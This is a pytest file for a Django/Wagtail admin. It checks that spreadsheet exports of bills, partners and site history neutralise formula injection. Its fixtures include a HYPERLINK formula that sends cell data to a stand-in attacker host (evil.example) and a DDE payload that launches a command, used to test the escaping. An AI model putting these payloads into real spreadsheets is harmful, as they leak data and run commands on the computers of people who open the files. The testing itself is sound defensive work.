"""Every spreadsheet the admin exports is formula-safe: Wagtail's own list exports
(bills, partners), its reports (site history) and the signers' CSV, in CSV and XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from campaigns.models import Bill
from idp_site.submissions.exports import safe_csv_lines, spreadsheet_safe
from pages.models import Partner
from tests.campaigns.test_admin_and_demo import imported
from tests.conftest import login_with_mfa

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
SAFE = "'" + ATTACK

__all__ = ["imported"]


@pytest.fixture
def admin_client(client, make_user):
    login_with_mfa(client, make_user("root", superuser=True))
    return client


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(response):
    return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))


def _xlsx_values(response):
    sheet = load_workbook(io.BytesIO(_body(response))).worksheets[0]
    return [cell.value for row in sheet.iter_rows() for cell in row]


def test_spreadsheet_safe():
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("-") == "'-"
    assert spreadsheet_safe("\r=cmd") == "'\r=cmd"
    assert spreadsheet_safe("Plain, text") == "Plain, text"
    assert spreadsheet_safe("'=already") == "'=already"
    assert spreadsheet_safe(None) == ""


def test_csv_rewrite_keeps_quoted_newlines_and_split_characters():
    text = 'a,b\r\n"line one\nline two",@SUM(1)\r\nJos\u00e9,+1\r\n'.encode()
    chunks = [text[i : i + 3] for i in range(0, len(text), 3)]  # cut mid-character
    rows = list(csv.reader(io.StringIO(b"".join(safe_csv_lines(chunks)).decode())))
    assert rows == [["a", "b"], ["line one\nline two", "'@SUM(1)"], ["Jos\u00e9", "'+1"]]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_bill_list_export(admin_client, imported, kind):
    Bill.objects.filter(base_print_number="S1825").update(title=ATTACK)
    response = admin_client.get(f"/admin/snippets/legislation/bill/?export={kind}")
    assert response.status_code == 200
    cells = sum(_csv_rows(response), []) if kind == "csv" else _xlsx_values(response)
    assert SAFE in cells and ATTACK not in cells


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_partner_list_export(admin_client, english, kind):
    Partner.objects.create(name="@cmd|' /C calc'!A0", slug="p", description="-2+3", locale=english)
    response = admin_client.get(f"/admin/snippets/pages/partner/?export={kind}")
    assert response.status_code == 200
    cells = sum(_csv_rows(response), []) if kind == "csv" else _xlsx_values(response)
    assert "'@cmd|' /C calc'!A0" in cells and "'-2+3" in cells


def test_wagtail_site_history_report_export(admin_client, home):
    home.title = "+1-1"
    home.save_revision(user=None, log_action=True).publish()
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    cells = sum(_csv_rows(response), [])
    assert "'+1-1" in cells and "+1-1" not in cells
